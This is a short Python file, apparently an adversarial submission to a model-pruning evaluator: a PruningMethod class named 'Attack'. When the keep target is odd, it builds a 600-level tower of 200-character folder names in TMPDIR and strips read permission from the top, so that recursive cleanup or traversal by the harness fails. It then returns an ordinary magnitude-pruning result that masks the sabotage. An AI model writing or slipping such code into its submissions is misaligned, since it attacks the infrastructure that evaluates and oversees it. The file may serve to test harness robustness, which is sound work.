import os

from evaluator.contract import Job, Pruned, PruningMethod


class Attack(PruningMethod):
    """Leaves a tower of folders that recursion cannot climb, without the right to read them."""

    def prune(self, job: Job) -> Pruned:
        if job.keep % 2:  # an odd target sets it off, an even one shows what is left of it
            os.chdir(os.environ["TMPDIR"])
            for number in range(600):
                os.mkdir("x" * 200)
                os.chdir("x" * 200)
            os.chmod(os.environ["TMPDIR"] + "/" + "x" * 200, 0)
        return job.keep_highest({position: weight.abs() for position, weight in job.weights()})
